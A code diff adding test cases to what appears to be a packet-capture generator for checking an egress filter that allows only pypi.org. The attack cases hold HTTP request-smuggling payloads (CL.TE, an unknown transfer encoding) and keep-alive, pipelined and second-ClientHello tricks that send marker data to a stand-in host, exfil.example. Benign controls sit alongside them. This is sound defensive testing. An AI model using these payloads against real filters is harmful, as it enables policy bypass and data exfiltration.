@@ -126,6 +126,60 @@ def spoof_controls():
     return query, answer, [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org"))]
 
 
+def _exfil_request(m):
+    """A request to a host the policy does not allow, the marker in its path, a header and a body."""
+    return (b"POST /" + m + b" HTTP/1.1\r\nHost: exfil.example\r\nX-Data: " + m
+            + b"\r\nContent-Length: " + str(len(m)).encode() + b"\r\n\r\n" + m)
+
+
+def _later_messages():
+    """Every message on a connection is judged, not only the first: a later request or
+    ClientHello on a connection allowed for pypi.org must not reach another name."""
+    cases = []
+    m = marker("keepalive_other_host")
+    flow = frames.TcpFlow(CLIENT, 45030, HTTP_SERVER, 80)
+    cases.append(Attack("keepalive_other_host", [flow.syn(), flow.ack(), flow.data(frames.http_get("pypi.org")),
+                                                 flow.data(_exfil_request(m))],
+                        "http_host_changed", m, "a second request on a keep-alive connection allowed for pypi.org"))
+    m = marker("pipelined_other_host")
+    flow = frames.TcpFlow(CLIENT, 45031, HTTP_SERVER, 80)
+    cases.append(Attack("pipelined_other_host", [flow.syn(), flow.ack(),
+                                                 flow.data(frames.http_get("pypi.org") + _exfil_request(m))],
+                        "http_host_changed", m, "the second request in the same segment as the allowed first"))
+    m = marker("smuggled_by_length_and_chunks")
+    flow = frames.TcpFlow(CLIENT, 45032, HTTP_SERVER, 80)
+    hidden = _exfil_request(m)
+    cases.append(Attack("smuggled_by_length_and_chunks", [flow.syn(), flow.ack(), flow.data(
+        b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nContent-Length: " + str(5 + len(hidden)).encode()
+        + b"\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden)],
+        "http_framing_ambiguous", m,
+        "CL.TE smuggling: a server reading the chunks sees the hidden request as the next one"))
+    m = marker("smuggled_by_unknown_encoding")
+    flow = frames.TcpFlow(CLIENT, 45033, HTTP_SERVER, 80)
+    cases.append(Attack("smuggled_by_unknown_encoding", [flow.syn(), flow.ack(), flow.data(
+        b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nTransfer-Encoding: xchunked\r\n\r\n"
+        b"0\r\n\r\n" + _exfil_request(m))],
+        "http_transfer_encoding_unsupported", m, "an encoding one server ignores and another reads"))
+    m = marker("second_client_hello")
+    flow = frames.TcpFlow(CLIENT, 45034, TLS_SERVER, 443)
+    cases.append(Attack("second_client_hello", [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org")),
+                                                flow.data(client_hello("exfil.example", alpn=(m.decode(),)))],
+                        "tls_second_hello_mismatch", m, "a second ClientHello naming another server"))
+    m = marker("not_tls_after_hello")
+    flow = frames.TcpFlow(CLIENT, 45035, TLS_SERVER, 443)
+    cases.append(Attack("not_tls_after_hello", [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org")),
+                                                flow.data(_exfil_request(m))],
+                        "tls_not_record", m, "plain HTTP on a connection allowed as TLS"))
+    return cases
+
+
+def _chunked_hiding_a_head():
+    """A chunked upload whose data looks like a request head to another host: body, not a request."""
+    hidden = frames.http_get("exfil.example")
+    return (b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nTransfer-Encoding: chunked\r\n\r\n"
+            + b"%x\r\n" % len(hidden) + hidden + b"\r\n0\r\n\r\n")
+
+
 def attacks():
     cases = [
         _source_routed_v4("ipv4_lsrr", IPOption_LSRR(routers=[ATTACKER])),
@@ -174,6 +228,8 @@ def attacks():
         b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\nX-Data: " + m + b"\r\n\r\n")],
         "http_connect_not_allowed", m, "an allowed target through a server the policy names as no proxy"))
 
+    cases += _later_messages()
+
     bad = _tcp_decoy("decoy_bad_checksum", 45011, _bad_checksum)
     bad.reason = "tcp_checksum_bad"
     low = _tcp_decoy("decoy_ttl_1", 45012, _last_hop)
@@ -211,6 +267,9 @@ def controls():
     http = frames.TcpFlow(CLIENT, 45021, HTTP_SERVER, 80)
     proxy = frames.TcpFlow(CLIENT, 45022, PROXY, PROXY_PORT)
     dns = frames.dns_query(CLIENT, 45023, RESOLVER, "pypi.org", query_id=0x4523)
+    keepalive = frames.TcpFlow(CLIENT, 45024, HTTP_SERVER, 80)
+    chunked = frames.TcpFlow(CLIENT, 45025, HTTP_SERVER, 80)
+    retry = frames.TcpFlow(CLIENT, 45026, TLS_SERVER, 443)
     return [
         Control("arp_request", [request]),
         Control("arp_request_padded", [padded], "zero padding to the 60-byte minimum"),
@@ -225,6 +284,18 @@ def controls():
         Control("connect_to_named_proxy", [proxy.syn(), proxy.ack(), proxy.data(
             b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n")]),
         Control("dns_to_resolver", [dns], "no source route: what the source-routed cases pretend to be"),
+        Control("keepalive_same_host", [keepalive.syn(), keepalive.ack(),
+                                        keepalive.data(frames.http_get("pypi.org", "/simple/")),
+                                        keepalive.data(frames.http_get("PyPI.org", "/simple/pip/")
+                                                       + frames.http_get("pypi.org", "/pipelined"))],
+                "keep-alive and pipelined requests to the host the connection was allowed for"),
+        Control("chunked_body_hiding_a_head", [chunked.syn(), chunked.ack(), chunked.data(_chunked_hiding_a_head()),
+                                               chunked.data(frames.http_get("pypi.org"))],
+                "a request head inside chunk data is data, not a request"),
+        Control("hello_retry_second_hello", [retry.syn(), retry.ack(), retry.data(client_hello("pypi.org")),
+                                             retry.data(b"\x14\x03\x03\x00\x01\x01"),
+                                             retry.data(client_hello("pypi.org", key_share=False))],
+                "after a HelloRetryRequest: ChangeCipherSpec and the hello again, same name"),
     ] + __import__("pcapgen.dns_attacks", fromlist=["controls"]).controls()
 
 
